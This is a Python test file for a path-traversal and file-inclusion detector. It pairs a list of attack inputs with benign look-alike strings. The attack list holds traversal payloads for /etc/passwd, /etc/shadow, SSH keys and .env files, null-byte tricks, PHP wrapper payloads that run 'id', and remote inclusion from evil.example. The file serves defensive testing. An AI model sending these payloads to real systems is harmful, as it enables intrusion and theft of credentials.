from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sink import Slot
from shangdun_guard.inspector.sinks.path import SINK
from shangdun_guard.inspector.sinks.path.climbs import climbs

FILE = Slot("query", "file")
PATH = Slot("path", "")

ATTACKS = [
    ("../../../../etc/passwd", QUERY),
    ("../../../../../../../../windows/win.ini", QUERY),
    ("..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", QUERY),
    ("....//....//....//etc/passwd", QUERY),
    ("..././..././..././etc/passwd", QUERY),
    ("/etc/passwd", QUERY),
    ("//etc/passwd", QUERY),
    ("/etc/shadow", FILE),
    ("/proc/self/environ", QUERY),
    ("/var/log/apache2/access.log", FILE),
    ("C:\\Windows\\win.ini", QUERY),
    ("c:/boot.ini", QUERY),
    ("C:\\inetpub\\wwwroot\\web.config", QUERY),
    ("../../WEB-INF/web.xml", QUERY),
    ("/WEB-INF/web.xml", PATH),
    ("/static/../../../../etc/passwd", PATH),
    ("/app/..;/manager/html", PATH),
    ("/cgi-bin/.././.././../bin/sh", PATH),
    ("/icons/../../../../../windows/", PATH),
    ("images/../../../../../../etc/passwd", QUERY),
    ("../../config.php", FILE),
    ("../../../../../../etc/passwd\x00.jpg", QUERY),
    ("index.php\x00.png", FILE),
    ("file:///etc/passwd", QUERY),
    ("file://localhost/etc/shadow", QUERY),
    ("php://filter/convert.base64-encode/resource=index.php", QUERY),
    ("php://input", QUERY),
    ("expect://id", QUERY),
    ("zip://uploads/a.zip#shell.php", QUERY),
    ("phar://uploads/a.jpg/x", QUERY),
    ("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", QUERY),
    ("data:text/plain,<?php system('id'); ?>", QUERY),
    ("http://evil.example/shell.txt?", Slot("query", "page")),
    ("http://evil.example/e.php", Slot("query", "template")),
    ("\\\\10.0.0.5\\share\\x.php", QUERY),
    ("web.config::$DATA", FILE),
    ("../../../../../../../lib/", QUERY),
    ("lang=../../../../etc/passwd", QUERY),
    ("..0x2f..0x2f..0x2fetc/passwd", QUERY),
    ("/./././././././etc/passwd", QUERY),
    ("../../.env", QUERY),
    ("../../../.ssh/id_rsa", QUERY),
    ("../../../../var/www/html/wp-config.php", QUERY),
    ("/../../../../../../etc/passwd", QUERY),
    ("..\\..\\..\\boot.ini", QUERY),
    ("..\\..\\..\\..\\..\\..\\boot.ini", QUERY),
]

HONEST = [
    ("../img/a.png", QUERY),
    ("../../../assets/img/logo.svg", QUERY),
    ("../index.html", QUERY),
    ('<p>Look:</p><img src="../../../media/shoe.jpg">', Slot("form", "description")),
    ("body{background:url(../../../img/bg.png)}", Slot("form", "css")),
    ("import x from '../../../lib/thing'", Slot("form", "code")),
    ('#include "../../../include/foo.h"', Slot("form", "code")),
    ("../../../src/components/Cart.vue", Slot("json", "sources[]")),
    ("webpack:///../../../node_modules/react/index.js", Slot("json", "sources[]")),
    ("@scope/pkg/../other", Slot("json", "dependencies")),
    ("and/or", QUERY),
    ("1/2/2024", QUERY),
    ("wait...", QUERY),
    (".../ok", QUERY),
    ("go test ./...", QUERY),
    (">=1.0..<2.0", QUERY),
    ("1..10", QUERY),
    ("v1.2..v1.3", QUERY),
    ("report.2024.10.final.pdf", QUERY),
    ("C:\\fakepath\\photo.png", QUERY),
    ("C:\\Users\\anna\\Documents\\invoice.pdf", QUERY),
    ("uploads/2024/10/photo.jpg", QUERY),
    ("s3://bucket/key/file.csv", QUERY),
    ("https://shop.example/a/../b", QUERY),
    ("https://shop.example/products?page=2", Slot("query", "next")),
    ("https://cdn.example.com/img/a.png", Slot("query", "image")),
    ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==", Slot("json", "avatar")),
    ("My config in /etc/nginx/nginx.conf does not work, what should I change there?", QUERY),
    ("The error says: could not open ../../../../etc/foo.conf, please help me with it", QUERY),
    ('File "/usr/lib/python3/dist-packages/x.py", line 3, in <module>', Slot("form", "text")),
    ("file:///home/anna/index.html", Slot("json", "url")),
    ("/catalogue/the-cat-in-the-hat_33/", PATH),
    ("/static/css/a..b.css", PATH),
    ("/products/x/../y", PATH),
    ("size S/M/L", QUERY),
    ("12:30", QUERY),
    ("web.config", QUERY),
    ("北京../上海", QUERY),
    ("..", QUERY),
    ("....", QUERY),
    ("what........ ever", QUERY),
    ("/opt", QUERY),
    ("https://github.com/a/b/compare/v1...v2", QUERY),
    ("../..", QUERY),
    ("\\d+\\.\\d+", QUERY),
    ("..\\img\\x.png", QUERY),
]


@pytest.mark.parametrize(("text", "slot"), ATTACKS)
def test_a_file_out_of_reach_convicts(text: str, slot: Slot) -> None:
    assert score(SINK, text, slot) >= 0


@pytest.mark.parametrize(("text", "slot"), HONEST)
def test_references_and_mentions_do_not(text: str, slot: Slot) -> None:
    assert score(SINK, text, slot) <= -0.5


def test_depth_is_counted_as_a_resolver_counts() -> None:
    inside, above = climbs("a/b/../c")[0], climbs("a/../../../x")[0]
    assert (inside.ups, inside.above) == (1, 0)
    assert (above.ups, above.above, above.target) == (3, 2, "/x")


@pytest.mark.parametrize(
    "unit",
    ["../", ".", "./", "..;/", "0x2e", "\\", "/etc", "a ", "../ ", "....//", "x:", "\x00", "..\n",
     "https://a", "/.", "..../etc", "file:///", "::$", "a.b"],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == ["2026-10-05T12:30:00Z"]


@given(st.one_of(st.text(), st.text(alphabet="./\\;:0x2fetcpaswd\x00$ \n'")))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    score(SINK, text, FILE)
    score(SINK, text, PATH)
